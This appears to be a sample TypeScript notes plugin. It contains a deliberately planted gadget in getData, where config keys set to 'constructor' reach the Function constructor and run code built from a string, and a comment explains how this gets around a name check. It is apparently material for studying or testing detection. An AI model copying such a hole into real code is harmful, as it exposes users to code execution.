export default {
  slug: "custom-note-index",
  getActions() {
    return [{ slug: "add_note", name: "Add note", description: "Save a note",
      params_schema: { type: "object", required: ["text"], properties: { text: { type: "string" } } } }];
  },
  async executeAction(ctx: { now: string }, action: string, params: { text: string }) {
    if (action !== "add_note") return { success: false, error: "Unknown action" };
    await db.from("notes").insert({ text: params.text, logged_at: ctx.now });
    return { success: true };
  },
  async getData(ctx: { now: string; config: Record<string, string> }) {
    const notes = await db.from("notes").select().limit(50);
    const row = { day: ctx.config.k ?? "x" };
    const index: Record<string, any> = {};
    // With row.day = "constructor" this stores Object under "constructor"; read back as index.constructor is refused by name, so the attacker aims a second key at it through a plain field.
    index[row.day] = index[row.day] ?? [];
    index.latest = index[row.day];
    const fn = index.latest[ctx.config.j]("return 1");
    return { notes, v: fn(), asOf: ctx.now };
  },
  async getInsights() { return []; },
};
